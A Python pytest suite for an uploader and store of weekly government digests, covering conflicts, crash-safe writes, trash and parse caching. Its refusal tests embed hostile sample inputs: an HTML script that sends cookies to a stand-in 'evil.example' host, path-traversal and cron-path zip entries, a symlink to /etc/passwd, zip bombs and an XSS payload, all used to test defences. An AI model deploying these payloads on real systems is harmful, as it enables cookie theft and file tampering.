"""The library of digests: previewing and adding uploads, refusals, conflicts, atomic writes under
concurrency and crashes, trash and restore, the parse cache, and the data-quality tables built on it.

Every refusal and every failure is checked by hashing every file of the library before and after.
"""

from __future__ import annotations

import dataclasses
import hashlib
import io
import multiprocessing
import os
import random
import signal
import stat
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest

import loaders.library as library_module
from analytics.quality import problem_table, quality_table
from loaders import atomic, pipeline, uploads
from loaders.config import MAX_FILE_BYTES, PROFILE_DIR
from loaders.library import (
    CONFLICT,
    KEEP_BOTH,
    KEEP_STORED,
    NEW,
    REFUSED,
    REPLACE,
    SAME,
    Library,
    LibraryError,
)
from loaders.report import FileReport, LoadReport
from loaders.uploads import safe_name
from tests.conftest import ROOT, SEEDS, kill_when_ready, snapshot

PORTAL_000 = ROOT / "tests" / "fixtures" / "portal_article_000.html"  # digest 000 as saved from the portal
SEED_BYTES = {p.name: p.read_bytes() for p in SEEDS}
SEED_002 = SEED_BYTES["002_0b14f9dcf9426668.txt"]
#: Digest 002 with one item's own document number changed: same week, different items.
ALTERED_002 = SEED_002.replace("381/QĐ-UBND".encode(), "391/QĐ-UBND".encode())
#: Digest 002 with one body sentence reworded: other text (another digest id), same week and same items.
REWORDED_002 = SEED_002.replace("Theo đó, Phân bổ 10.000".encode(), "Theo đó, phân bổ 10.000".encode())
NOT_A_DIGEST = "Thông báo lịch tiếp công dân của UBND tỉnh Lạng Sơn tháng 11.\nKhông có nội dung khác.\n".encode()
_LINES_002 = SEED_002.decode("utf-8").split("\n")
_ITEM_5 = next(n for n, line in enumerate(_LINES_002) if line.startswith("Kế hoạch Triển khai thực hiện công tác Bình"))
#: Digest 002 cut in the middle of its 5th item's body (as a page saved before it finished loading): 5 of its 8
#: items, the last one ending mid-sentence, and 3 summary entries without their block.
TRUNCATED_002 = ("\n".join(_LINES_002[: _ITEM_5 + 3]) + "\n" + _LINES_002[_ITEM_5 + 4][:60]).encode("utf-8")
#: Digest 002 cut right after its opening summary: the title (week 02/03/2020–08/03/2020) and no item block.
SUMMARY_ONLY_002 = "\n".join(_LINES_002[:7]).encode("utf-8")


def temp_files(root: Path) -> list[Path]:
    return [p for p in root.rglob(f"{atomic.TEMP_PREFIX}*") if p.is_file()]


def seed_library(root: Path, names: list[str] | None = None) -> Library:
    """A library whose digests/ holds copies of the bundled digests (as if added by hand)."""
    folder = root / "digests"
    folder.mkdir(parents=True)
    for name in names or list(SEED_BYTES):
        (folder / name).write_bytes(SEED_BYTES[name])
    return Library(root)


@pytest.fixture
def lib(tmp_path: Path) -> Library:
    return seed_library(tmp_path / "lib")


@pytest.fixture
def empty(tmp_path: Path) -> Library:
    return Library(tmp_path / "empty")


def zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


# ------------------------------------------------------------------------ the folder and reading


def test_default_root_honours_the_environment(tmp_path, monkeypatch):
    monkeypatch.setenv("DASHBOARD_DATA_DIR", str(tmp_path / "elsewhere"))
    assert Library().root == (tmp_path / "elsewhere").resolve()
    monkeypatch.delenv("DASHBOARD_DATA_DIR")
    assert Library().root == ROOT / "data"


def test_load_equals_the_pipeline_on_the_same_folder(lib):
    items, report = lib.load()
    expected, expected_report = pipeline.load([lib.digests_dir])
    pd.testing.assert_frame_equal(items, expected)
    assert [(f.path, f.digest_id, f.items) for f in report.files] == [
        (f.path, f.digest_id, f.items) for f in expected_report.files
    ]
    assert len(items) == 70


def test_entries_describe_each_file(lib):
    entries = lib.entries()
    assert [e.week_start.isoformat() for e in entries] == [
        "2020-03-02",
        "2022-06-20",
        "2023-08-07",
        "2024-10-28",
        "2025-03-17",
    ]  # sorted by week
    by_name = {e.file_name: e for e in entries}
    e = by_name["001_6a1a74cf8d1e2b76.txt"]
    assert (e.digest_id, e.items, e.size, e.loaded) == ("7a2c3472308634cb", 24, len(SEED_BYTES[e.file_name]), True)
    assert e.sha256 == hashlib.sha256(SEED_BYTES[e.file_name]).hexdigest()
    assert e.week_label == "07/08/2023–13/08/2023"


def test_an_empty_or_missing_library_loads_nothing(empty):
    items, report = empty.load()
    assert items.empty and report.files == []
    assert empty.entries() == [] and empty.trash() == []


# ------------------------------------------------------------------------ adding


def test_preview_stores_nothing_and_add_stores_the_raw_bytes(empty):
    candidates = empty.preview([(p.name, p.read_bytes()) for p in SEEDS])
    assert [c.status for c in candidates] == [NEW] * 5
    assert [c.items for c in candidates] == [7, 24, 8, 22, 9]
    assert candidates[0].week_label == "17/03/2025–23/03/2025"
    assert [w.code for w in candidates[0].warnings][:1] == ["year_conflict"]
    assert snapshot(empty.root) == {}
    result = empty.add(candidates)
    assert [e.file_name for e in result.added] == [p.name for p in SEEDS]
    assert snapshot(empty.root) == {f"digests/{n}": hashlib.sha256(b).hexdigest() for n, b in SEED_BYTES.items()}
    assert len(empty.load()[0]) == 70
    assert temp_files(empty.root) == []


def test_the_same_digest_again_changes_nothing(lib):
    before = snapshot(lib.root)
    token = lib.state_token()
    uploads = [
        ("copy-under-another-name.txt", SEED_002),  # identical bytes
        ("000.html", PORTAL_000.read_bytes()),  # same digest saved as HTML: same week, same items
        ("002-reworded.txt", REWORDED_002),
    ]  # another text, same week and same items
    candidates = lib.preview(uploads)
    assert [c.status for c in candidates] == [SAME, SAME, SAME]
    assert candidates[0].same_as == "002_0b14f9dcf9426668.txt"
    assert candidates[1].same_as == "000_93a2f3d2e69a4580.txt"
    assert candidates[2].digest_id != "7e16c4bbbc46f45a"
    result = lib.add(candidates, {c.digest_id: REPLACE for c in candidates})
    assert not result.changed and len(result.skipped) == 3
    assert snapshot(lib.root) == before and lib.state_token() == token


def test_the_same_digest_twice_in_one_upload_is_stored_once(empty):
    candidates = empty.preview([("a.txt", SEED_002), ("b.txt", SEED_002)])
    assert [c.status for c in candidates] == [NEW, SAME]
    assert candidates[1].same_as == "a.txt"
    empty.add(candidates)
    assert list(snapshot(empty.root)) == ["digests/a.txt"]


def test_a_different_digest_for_a_stored_week_is_a_conflict(lib):
    before = snapshot(lib.root)
    [cand] = lib.preview([("002-altered.txt", ALTERED_002)])
    assert cand.status == CONFLICT
    assert [e.file_name for e in cand.conflicts_with] == ["002_0b14f9dcf9426668.txt"]
    assert "02/03/2020–08/03/2020" in cand.reason and "002_0b14f9dcf9426668.txt" in cand.reason
    only_new, only_stored = cand.differences(cand.conflicts_with[0])
    assert len(only_new) == len(only_stored) == 1
    assert only_new[0].startswith("391/QĐ-UBND: Phân bổ chi tiết kinh phí")
    assert only_stored[0].startswith("381/QĐ-UBND: Phân bổ chi tiết kinh phí")
    # Unresolved, or resolved as keep_stored: nothing changes.
    assert not lib.add([cand]).changed
    assert not lib.add([cand], {cand.digest_id: KEEP_STORED}).changed
    assert snapshot(lib.root) == before


def test_conflict_resolved_by_keeping_both(lib):
    [cand] = lib.preview([("002-altered.txt", ALTERED_002)])
    result = lib.add([cand], {cand.name: KEEP_BOTH})  # keyed by name works too
    assert [e.file_name for e in result.added] == ["002-altered.txt"] and result.trashed == []
    items, _ = lib.load()
    assert len(items) == 78 and (items["week"] == "2020-W10").sum() == 16


def test_conflict_resolved_by_replacing_moves_the_stored_one_to_the_trash(lib):
    before = snapshot(lib.root)
    [cand] = lib.preview([("002-altered.txt", ALTERED_002)])
    result = lib.add([cand], {cand.digest_id: REPLACE})
    [trashed] = result.trashed
    assert trashed.original == "002_0b14f9dcf9426668.txt"
    assert trashed.reason == "replaced by 002-altered.txt"
    items, _ = lib.load()
    assert (
        len(items) == 70 and "391/QĐ-UBND" in set(items["doc_symbol"]) and "381/QĐ-UBND" not in set(items["doc_symbol"])
    )
    # Undo: remove the new one, restore the old one: byte for byte where we started.
    lib.remove("002-altered.txt")
    lib.restore(trashed.trash_id)
    after = {k: v for k, v in snapshot(lib.root).items() if not k.startswith(".trash/")}
    assert after == before


def test_the_complete_digest_replaces_a_stored_truncated_one_by_default(empty):
    empty.add(empty.preview([("002-cut.txt", TRUNCATED_002)]))
    [stored] = empty.entries()
    assert (stored.items, stored.truncated) == (5, True)
    [cand] = empty.preview([("002.txt", SEED_002)])
    assert cand.status == CONFLICT and cand.default_choice == REPLACE
    assert "002-cut.txt (5 items, looks truncated)" in cand.reason and "this one is complete" in cand.reason
    result = empty.add([cand])  # nobody chose: the default
    assert [e.file_name for e in result.added] == ["002.txt"]
    assert [t.original for t in result.trashed] == ["002-cut.txt"]
    assert [e.file_name for e in empty.entries()] == ["002.txt"]
    assert (empty.trash_dir / result.trashed[0].trash_id / "002-cut.txt").read_bytes() == TRUNCATED_002
    assert [r["action"] for r in empty.log()] == ["replace", "add"]
    assert empty.log()[0]["replaced"][0]["file"] == "002-cut.txt"


def test_a_truncated_upload_never_replaces_a_complete_digest_by_default(lib):
    before = snapshot(lib.root)
    [cand] = lib.preview([("002-cut.txt", TRUNCATED_002)])
    assert cand.status == CONFLICT and cand.default_choice == KEEP_STORED
    assert "this one looks truncated" in cand.reason
    assert not lib.add([cand]).changed and snapshot(lib.root) == before
    # Told to, it does.
    assert lib.add([cand], {cand.digest_id: REPLACE}).trashed


def test_a_page_cut_after_its_summary_is_refused_with_its_week_named(empty):
    [cand] = empty.preview([("002-summary.txt", SUMMARY_ONLY_002)])
    assert (cand.status, cand.code) == (REFUSED, "no_items")
    assert cand.week_label == "02/03/2020–08/03/2020"
    assert "title (week 02/03/2020–08/03/2020) was found but no item block" in cand.reason
    assert snapshot(empty.root) == {}


def test_a_conflict_that_appears_after_the_preview_keeps_the_stored_digest(empty):
    [cand] = empty.preview([("altered.txt", ALTERED_002)])
    assert cand.status == NEW
    empty.add(empty.preview([("002.txt", SEED_002)]))  # someone else stores the week meanwhile
    before = snapshot(empty.root)
    result = empty.add([cand])
    assert not result.changed and "already has another digest" in result.skipped[0][1]
    assert snapshot(empty.root) == before


def test_a_stale_preview_of_a_digest_stored_meanwhile_is_not_stored_twice(empty):
    [cand] = empty.preview([("mine.txt", SEED_002)])
    empty.add(empty.preview([("theirs.txt", SEED_002)]))
    result = empty.add([cand])
    assert not result.changed
    assert list(snapshot(empty.root)) == ["digests/theirs.txt"]


def test_unknown_resolution_is_refused_before_anything_is_written(lib):
    before = snapshot(lib.root)
    [cand] = lib.preview([("002-altered.txt", ALTERED_002)])
    with pytest.raises(ValueError, match="must be one of"):
        lib.add([cand], {cand.digest_id: "overwrite"})
    assert snapshot(lib.root) == before


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\an\\Bản tin tuần 44.TXT", "Bản_tin_tuần_44.txt"),
        (".hidden.txt", "hidden.txt"),  # a leading dot would hide it from the loader
        ("a<b>|c?.html", "a_b_c.html"),
        ("CON.txt", "CON_.txt"),
        ("...", "digest.txt"),
        ("tin\x00tuần.md", "tin_tuần.md"),
    ],
)
def test_safe_names(name, expected):
    assert safe_name(name) == expected


def test_long_names_fit_file_systems_and_clashing_names_get_a_suffix(empty):
    long = "Chỉ đạo điều hành nổi bật " * 20 + ".txt"
    assert len(safe_name(long).encode("utf-8")) <= uploads.MAX_NAME_BYTES + 4
    empty.add(empty.preview([("digest.txt", SEED_002)]))
    result = empty.add(empty.preview([("sub/DIGEST.txt", SEED_BYTES["004_b8308b7cb78d46d0.txt"])]))
    assert [e.file_name for e in result.added] == ["DIGEST-2.txt"]  # case-insensitive clash
    assert sorted(snapshot(empty.root)) == ["digests/DIGEST-2.txt", "digests/digest.txt"]


# ------------------------------------------------------------------------ refusals: nothing stored changes


def refusal_cases(tmp_path: Path) -> dict[str, tuple[str, bytes]]:
    script_page = (
        b"<html><head><script>fetch('https://evil.example/'+document.cookie)</script></head>"
        b"<body><p>Khuy\xe1\xba\xbfn m\xc3\xa3i</p><script>alert(1)</script></body></html>"
    )
    return {
        "wrong_type": ("digest.pdf", SEED_002),
        "unsafe_zip": ("evil.zip", zip_bytes({"ok.txt": SEED_002, "../evil.txt": SEED_BYTES[SEEDS[0].name]})),
        "zip_bomb": ("bomb.zip", zip_bytes({"bomb.txt": b"\0" * (8 * 2**20)})),  # ~8 kB expanding 1000×
        "not_a_digest": ("page.html", script_page),
        "text": ("notes.txt", NOT_A_DIGEST),
        "binary": ("photo.txt", bytes(range(256)) * 64),
        "bad_zip": ("broken.zip", b"PK\x03\x04 this is not really a zip"),
    }


@pytest.mark.parametrize("case", ["wrong_type", "unsafe_zip", "zip_bomb", "not_a_digest", "text", "binary", "bad_zip"])
def test_bad_input_is_refused_naming_the_file_and_changes_nothing(lib, tmp_path, case):
    name, data = refusal_cases(tmp_path)[case]
    before = snapshot(lib.root)
    candidates = lib.preview([(name, data)])
    assert [c.status for c in candidates] == [REFUSED]
    cand = candidates[0]
    assert cand.message.startswith(name + ":") and cand.reason
    expected_code = {"text": "not_a_digest", "binary": "binary_file"}.get(case, case)
    assert cand.code == expected_code
    result = lib.add(candidates)
    assert not result.changed and result.skipped == [(cand, cand.reason)]
    assert snapshot(lib.root) == before
    assert not (tmp_path / "evil.txt").exists()


def test_refusal_messages_say_what_is_wrong(lib, tmp_path):
    cases = refusal_cases(tmp_path)
    reasons = {case: lib.preview([cases[case]])[0].reason for case in cases}
    assert "only .txt, .html, .htm, .md" in reasons["wrong_type"]
    assert "'../evil.txt' points outside the folder" in reasons["unsafe_zip"]
    assert "'bomb.txt'" in reasons["zip_bomb"] and "zip bomb" in reasons["zip_bomb"]
    assert "not a weekly digest" in reasons["not_a_digest"]
    assert "not a readable zip" in reasons["bad_zip"]


def test_a_file_over_the_size_limit_is_refused_unread(lib, tmp_path, monkeypatch):
    big = tmp_path / "huge.txt"
    with big.open("wb") as fh:  # sparse: nothing is written to disk
        fh.truncate(MAX_FILE_BYTES + 1)
    read = []
    real_open = os.open
    monkeypatch.setattr(os, "open", lambda path, *a, **kw: read.append(Path(path)) or real_open(path, *a, **kw))
    before = snapshot(lib.root)
    [cand] = lib.preview_paths([big])
    assert (cand.status, cand.code) == (REFUSED, "too_large")
    assert cand.message.startswith(str(big)) and "20 MB limit" in cand.reason
    assert big not in read
    lib.add([cand])
    assert snapshot(lib.root) == before


def test_uploaded_bytes_over_the_size_limit_are_refused(lib, monkeypatch):
    monkeypatch.setattr(uploads, "MAX_FILE_BYTES", len(SEED_002) - 1)
    [cand] = lib.preview([("002.txt", SEED_002)])
    assert (cand.status, cand.code) == (REFUSED, "too_large")


@pytest.mark.parametrize(
    ("member", "why"),
    [
        ("/etc/cron.d/evil.txt", "points outside the folder"),
        ("C:\\Windows\\evil.txt", "points outside the folder"),
        ("a\\..\\..\\evil.txt", "points outside the folder"),
    ],
)
def test_zip_paths_that_escape_are_refused(empty, member, why):
    [cand] = empty.preview([("x.zip", zip_bytes({"fine.txt": SEED_002, member: SEED_002}))])
    assert cand.status == REFUSED and why in cand.reason and member in cand.reason


def test_zip_symlinks_encryption_and_too_many_members_are_refused(empty, monkeypatch):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("link.txt")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    [cand] = empty.preview([("links.zip", buffer.getvalue())])
    assert cand.status == REFUSED and "'link.txt' is a symbolic link" in cand.reason

    encrypted = bytearray(zip_bytes({"secret.txt": SEED_002}))
    # Set the "encrypted" flag in the central directory entry (as a password-protected zip has).
    cd = encrypted.rindex(b"PK\x01\x02")
    encrypted[cd + 8] |= 0x1
    [cand] = empty.preview([("secret.zip", bytes(encrypted))])
    assert cand.status == REFUSED and "password-protected" in cand.reason

    monkeypatch.setattr(uploads, "MAX_ZIP_MEMBERS", 3)
    [cand] = empty.preview([("many.zip", zip_bytes({f"{n}.txt": b"x" for n in range(4)}))])
    assert cand.status == REFUSED and "4 files in the zip" in cand.reason
    assert snapshot(empty.root) == {}


def test_zip_whose_members_add_up_to_too_much_is_refused(empty, monkeypatch):
    monkeypatch.setattr(uploads, "MAX_ZIP_TOTAL_BYTES", len(SEED_002) + 10)
    [cand] = empty.preview([("two.zip", zip_bytes({"a.txt": SEED_002, "b.txt": SEED_002}))])
    assert cand.status == REFUSED and "add up to more than" in cand.reason and "'b.txt'" in cand.reason


def _text_like(size: int, seed: int) -> bytes:
    """`size` bytes that deflate about 10×, like text: 1 kB of noise in every 10 kB."""
    rng = random.Random(seed)
    chunk = 10 * 1024
    return b"".join(rng.randbytes(1024) + b"a" * (chunk - 1024) for _ in range(size // chunk))


def test_a_5_mb_zip_expanding_beyond_50_mb_is_refused_by_name(empty):
    members = {f"tuan-{n}.txt": _text_like(18 * 2**20, n) for n in range(3)}  # 54 MB, each under 20 MB
    data = zip_bytes(members)
    assert 4 * 2**20 < len(data) < 6 * 2**20, "about 5 MB: under the 20 MB upload limit"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert all(i.file_size < uploads.MAX_ZIP_RATIO * i.compress_size for i in archive.infolist())
    [cand] = empty.preview([("nam-2024.zip", data)])
    assert cand.status == REFUSED and cand.code == "zip_bomb"
    assert cand.message.startswith("nam-2024.zip: ") and "add up to more than 50 MB" in cand.reason
    assert snapshot(empty.root) == {}


def test_a_zip_of_many_small_bombs_is_refused_on_its_overall_ratio(empty):
    # Each member is 1 MB of zeros (not over the 1 MB floor of the per-member ratio check) and the 30 MB
    # total is under the 50 MB cap, but the whole zip expands ~1000×.
    data = zip_bytes({f"{n}.txt": b"0" * 2**20 for n in range(30)})
    assert len(data) * 500 < 30 * 2**20
    [cand] = empty.preview([("bom-nho.zip", data)])
    assert cand.status == REFUSED and cand.code == "zip_bomb"
    assert "expands more than 100×" in cand.reason and cand.message.startswith("bom-nho.zip: ")


def test_a_zip_of_digests_is_expanded_in_memory(empty):
    members = {f"tuan/{n}": b for n, b in SEED_BYTES.items()}
    members.update({"__MACOSX/tuan/._000.txt": b"\0\x05\x16\x07", "tuan/.DS_Store": b"\0", "tuan/anh.jpg": b"\xff"})
    candidates = empty.preview([("digests.zip", zip_bytes(members))])
    by_status = {s: [c.name for c in candidates if c.status == s] for s in (NEW, REFUSED)}
    assert by_status[NEW] == [f"digests.zip/tuan/{n}" for n in SEED_BYTES]
    assert by_status[REFUSED] == ["digests.zip/tuan/anh.jpg"]  # clutter skipped, the photo refused by name
    result = empty.add(candidates)
    assert sorted(e.file_name for e in result.added) == sorted(SEED_BYTES)
    assert snapshot(empty.root) == {f"digests/{n}": hashlib.sha256(b).hexdigest() for n, b in SEED_BYTES.items()}


def test_scripts_in_an_html_digest_are_dropped_and_flagged(empty):
    page = PORTAL_000.read_bytes().replace(b"</h1>", b"</h1><script>alert('xss')</script>", 1)
    [cand] = empty.preview([("tin.html", page)])
    assert cand.status == NEW and cand.items == 7
    assert "html_scripts" in [w.code for w in cand.warnings]
    assert not any("alert" in str(v) for row in cand.rows for v in row.values())


def test_good_and_bad_uploads_together_store_only_the_good(empty):
    candidates = empty.preview([("good.txt", SEED_002), ("bad.txt", NOT_A_DIGEST)])
    assert [c.status for c in candidates] == [NEW, REFUSED]
    result = empty.add(candidates)
    assert [e.file_name for e in result.added] == ["good.txt"]
    assert list(snapshot(empty.root)) == ["digests/good.txt"]


def test_preview_paths_reads_folders_and_refuses_missing_files(empty, tmp_path):
    folder = tmp_path / "upload"
    folder.mkdir()
    (folder / "a.txt").write_bytes(SEED_002)
    (folder / "readme.pdf").write_bytes(b"%PDF")  # not a digest extension: not picked from a folder
    candidates = empty.preview_paths([folder, tmp_path / "missing.txt"])
    assert [(Path(c.name).name, c.status) for c in candidates] == [("a.txt", NEW), ("missing.txt", REFUSED)]
    assert "No such file" in candidates[1].reason


# ------------------------------------------------------------------------ concurrency and crashes


def _add_in_child(root: str, names: list[str], prefix: str, barrier) -> None:
    library = Library(root)
    candidates = library.preview([(prefix + n, SEED_BYTES[n]) for n in names])
    real_add_one = Library._add_one

    def slow_add_one(self, *args):
        time.sleep(0.05)  # widen the window between the check and the write: only the lock closes it
        return real_add_one(self, *args)

    Library._add_one = slow_add_one
    barrier.wait()
    library.add(candidates)


@pytest.mark.parametrize("attempt", range(3))
def test_two_concurrent_adds_leave_a_consistent_library(tmp_path, attempt):
    root = tmp_path / "lib"
    names = list(SEED_BYTES)
    ctx = multiprocessing.get_context("fork")
    barrier = ctx.Barrier(2)
    # Both add digest 2 (under different names); each also adds two others; both previews see an empty library.
    jobs = [
        ctx.Process(target=_add_in_child, args=(str(root), names[:3], "", barrier)),
        ctx.Process(target=_add_in_child, args=(str(root), names[2:][::-1], "b-", barrier)),
    ]
    for job in jobs:
        job.start()
    for job in jobs:
        job.join(60)
    assert [job.exitcode for job in jobs] == [0, 0]
    stored = snapshot(root)
    assert sorted(stored.values()) == sorted(hashlib.sha256(b).hexdigest() for b in SEED_BYTES.values())
    assert {k.removeprefix("digests/").removeprefix("b-") for k in stored} == set(SEED_BYTES)
    assert temp_files(root) == []
    items, report = Library(root).load()
    assert len(items) == 70 and not report.failed


def test_a_writer_waits_for_the_lock_and_gives_up_with_a_clear_message(empty, monkeypatch):
    monkeypatch.setattr(library_module, "LOCK_TIMEOUT", 0)
    candidates = empty.preview([("a.txt", SEED_002)])
    with empty._writer():  # another writer holds the lock
        with pytest.raises(LibraryError, match="busy"):
            Library(empty.root).add(candidates)
        assert Library(empty.root).load()[0].empty  # readers do not block
    assert Library(empty.root).add(candidates).changed


def test_a_full_disk_in_the_middle_of_a_write_changes_nothing(lib, monkeypatch):
    before = snapshot(lib.root)
    real_write_all = atomic.write_all

    def half_then_full(fd, data):
        real_write_all(fd, data[: len(data) // 2])
        raise OSError(28, "No space left on device")

    candidates = lib.preview([("new.txt", ALTERED_002.replace(b"2020", b"2019"))])
    assert candidates[0].status == NEW
    monkeypatch.setattr(atomic, "write_all", half_then_full)
    with pytest.raises(LibraryError, match="No space left on device; nothing was changed"):
        lib.add(candidates)
    assert snapshot(lib.root) == before and temp_files(lib.root) == []


def test_a_batch_that_fails_half_way_is_undone(empty, monkeypatch):
    calls = []
    real_rename = atomic.rename

    def fail_second(source, target):
        if target.parent == empty.digests_dir:
            calls.append(target)
            if len(calls) == 2:
                raise OSError(5, "Input/output error")
        real_rename(source, target)

    monkeypatch.setattr(atomic, "rename", fail_second)
    with pytest.raises(LibraryError, match="Input/output error"):
        empty.add(empty.preview([("a.txt", SEED_002), ("b.txt", SEED_BYTES["004_b8308b7cb78d46d0.txt"])]))
    assert snapshot(empty.root) == {} and temp_files(empty.root) == []


def test_a_replace_that_fails_while_trashing_is_undone(lib, monkeypatch):
    before = snapshot(lib.root)
    [cand] = lib.preview([("002-altered.txt", ALTERED_002)])

    def broken_trash(self, *args):
        raise OSError(30, "Read-only file system")

    monkeypatch.setattr(Library, "_move_to_trash", broken_trash)
    with pytest.raises(LibraryError, match="Read-only file system"):
        lib.add([cand], {cand.digest_id: REPLACE})
    assert snapshot(lib.root) == before


def _crash_before_rename(root: str, ready) -> None:
    real_rename = atomic.rename

    def hang(source, target):
        if target.parent.name != "digests":
            return real_rename(source, target)  # the journal of the write
        ready.set()  # the temp file is written and fsynced: now kill me
        signal.pause()

    atomic.rename = hang
    library = Library(root)
    library.add(library.preview([("new.txt", ALTERED_002.replace(b"2020", b"2019"))]))


def test_a_process_killed_between_write_and_rename_leaves_the_library_as_it_was(lib):
    before = snapshot(lib.root)
    items_before, _ = lib.load()
    kill_when_ready(_crash_before_rename, str(lib.root))
    leftovers = temp_files(lib.root)
    assert len(leftovers) == 1 and leftovers[0].parent == lib.digests_dir  # the crash happened mid-write
    # Readers ignore the leftover; so does the plain loader on the folder.
    pd.testing.assert_frame_equal(lib.load()[0], items_before)
    pd.testing.assert_frame_equal(pipeline.load([lib.digests_dir])[0], items_before)
    assert {k: v for k, v in snapshot(lib.root).items() if "/.tmp-" not in k and ".journal/" not in k} == before
    # The dead writer's lock is gone and the next writer sweeps its leftover (and drops its unfinished step).
    result = lib.add(lib.preview([("new.txt", ALTERED_002.replace(b"2020", b"2019"))]))
    assert result.changed and temp_files(lib.root) == [] and not lib.pending()
    assert [r["action"] for r in lib.log()] == ["add"], "the step that never happened is not logged"


def test_a_removal_that_fails_after_the_sidecar_changes_nothing(lib, monkeypatch):
    before = snapshot(lib.root)
    real_rename = atomic.rename
    calls = []

    def fail_move(source, target):
        if target.parent.parent == lib.trash_dir and target.name != library_module.TRASH_META:
            calls.append(target)  # the sidecar was written; moving the digest fails
            raise OSError(5, "Input/output error")
        real_rename(source, target)

    monkeypatch.setattr(atomic, "rename", fail_move)
    with pytest.raises(LibraryError, match="nothing was changed"):
        lib.remove("7e16c4bbbc46f45a")
    assert lib.trash() == [] and snapshot(lib.root) == before
    monkeypatch.setattr(atomic, "rename", real_rename)
    lib.remove("7a2c3472308634cb")  # the next writer sweeps the half-made trash entry
    assert len(list(lib.trash_dir.iterdir())) == 1
    assert {k: v for k, v in snapshot(lib.root).items() if not k.startswith(".trash/")} == {
        k: v for k, v in before.items() if k != "digests/001_6a1a74cf8d1e2b76.txt"
    }


# ------------------------------------------------------------------------ remove, trash, restore


def test_remove_then_restore_is_a_byte_for_byte_round_trip(lib):
    before = snapshot(lib.root)
    trashed = lib.remove("7e16c4bbbc46f45a")
    assert trashed.original == "002_0b14f9dcf9426668.txt" and trashed.reason == "removed"
    assert (trashed.week_start.isoformat(), trashed.items) == ("2020-03-02", 8)
    assert "digests/002_0b14f9dcf9426668.txt" not in snapshot(lib.root)
    stored = lib.trash_dir / trashed.trash_id / trashed.file_name
    assert stored.read_bytes() == SEED_002
    assert lib.trash() == [trashed]
    items, _ = lib.load()
    assert len(items) == 62 and "7e16c4bbbc46f45a" not in set(items["digest_id"])
    restored = lib.restore(trashed.trash_id)
    assert restored.file_name == "002_0b14f9dcf9426668.txt"
    assert snapshot(lib.root) == before and lib.trash() == []


def test_remove_accepts_a_file_name_or_a_unique_prefix(lib):
    assert lib.remove("004_b8308b7cb78d46d0.txt").digest_id == "d4de0fe09ee29fd3"
    assert lib.remove("e08f").original == "003_92956dbfc23f0d06.txt"
    assert [t.original for t in lib.trash()] == ["003_92956dbfc23f0d06.txt", "004_b8308b7cb78d46d0.txt"]


def test_removing_or_restoring_something_unknown_changes_nothing(lib):
    before = snapshot(lib.root)
    with pytest.raises(LibraryError, match="no digest 'ffff"):
        lib.remove("ffffffffffffffff")
    with pytest.raises(LibraryError, match="no 'nope' in the trash"):
        lib.restore("nope")
    assert snapshot(lib.root) == before


def test_restoring_a_digest_already_back_in_the_library_is_refused(lib):
    trashed = lib.remove("7e16c4bbbc46f45a")
    lib.add(lib.preview([("again.txt", SEED_002)]))
    before = snapshot(lib.root)
    with pytest.raises(LibraryError, match=r"already in the library as again\.txt"):
        lib.restore(trashed.trash_id)
    assert snapshot(lib.root) == before


def test_restore_under_a_new_name_when_the_old_one_is_taken(lib):
    trashed = lib.remove("002_0b14f9dcf9426668.txt")
    lib.add(lib.preview([("002_0b14f9dcf9426668.txt", ALTERED_002)]))
    restored = lib.restore(trashed.trash_id)
    assert restored.file_name == "002_0b14f9dcf9426668-2.txt"
    assert (lib.digests_dir / restored.file_name).read_bytes() == SEED_002


# ------------------------------------------------------------------------ the parse cache


def test_the_second_load_comes_from_the_cache(lib, count_parses):
    first, first_report = lib.load()
    assert len(count_parses) == 5
    second, second_report = lib.load()
    assert len(count_parses) == 5
    pd.testing.assert_frame_equal(first, second)
    assert [dataclasses.asdict(f) for f in first_report.files] == [dataclasses.asdict(f) for f in second_report.files]


def test_a_new_parser_version_reparses_by_itself(lib, count_parses, monkeypatch):
    lib.load()
    monkeypatch.setattr(pipeline, "PARSER_VERSION", pipeline.PARSER_VERSION + "-next")
    lib.load()
    assert len(count_parses) == 10
    assert len(list(lib.cache_dir.iterdir())) == 5  # the old entries were dropped


def test_edited_content_or_vocabulary_reparses(tmp_path, count_parses):
    vocab = tmp_path / "profile"
    vocab.mkdir()
    for f in PROFILE_DIR.glob("*.yaml"):
        (vocab / f.name).write_bytes(f.read_bytes())
    lib = seed_library(tmp_path / "lib")
    lib.vocab_dir = vocab
    lib.load()
    (lib.digests_dir / "002_0b14f9dcf9426668.txt").write_bytes(ALTERED_002)
    items, _ = lib.load()
    assert count_parses[5:] == ["002_0b14f9dcf9426668.txt"]
    assert "391/QĐ-UBND" in set(items["doc_symbol"])
    with (vocab / "units.yaml").open("a", encoding="utf-8") as fh:
        fh.write("\n# a comment changes the fingerprint\n")
    lib.load()
    assert len(count_parses) == 11


def test_deleting_or_corrupting_the_cache_loses_nothing(lib, count_parses):
    import shutil

    items, _ = lib.load()
    shutil.rmtree(lib.store_dir)  # the store would answer before the parse cache is read
    victim = next(lib.cache_dir.iterdir())
    victim.write_bytes(b"{not json")
    pd.testing.assert_frame_equal(lib.load()[0], items)
    assert len(count_parses) == 6
    shutil.rmtree(lib.store_dir)
    for path in lib.cache_dir.iterdir():
        path.write_bytes(b'{"key": "another", "rows": [], "report": {}}')
    pd.testing.assert_frame_equal(lib.load()[0], items)
    assert len(count_parses) == 11
    shutil.rmtree(lib.root / ".cache")
    pd.testing.assert_frame_equal(lib.load()[0], items)
    assert len(count_parses) == 16


def test_an_unwritable_cache_only_costs_time(lib, count_parses):
    (lib.root / ".cache").write_bytes(b"")  # a file where the folder should be: every cache write fails
    items, _ = lib.load()
    assert len(items) == 70 and len(count_parses) == 5


def test_state_token_changes_with_the_library(lib):
    token = lib.state_token()
    assert lib.state_token() == token
    trashed = lib.remove("7e16c4bbbc46f45a")
    assert lib.state_token() != token
    lib.restore(trashed.trash_id)
    restored = lib.state_token()
    lib.load()
    assert lib.state_token() == restored


# ------------------------------------------------------------------------ data quality


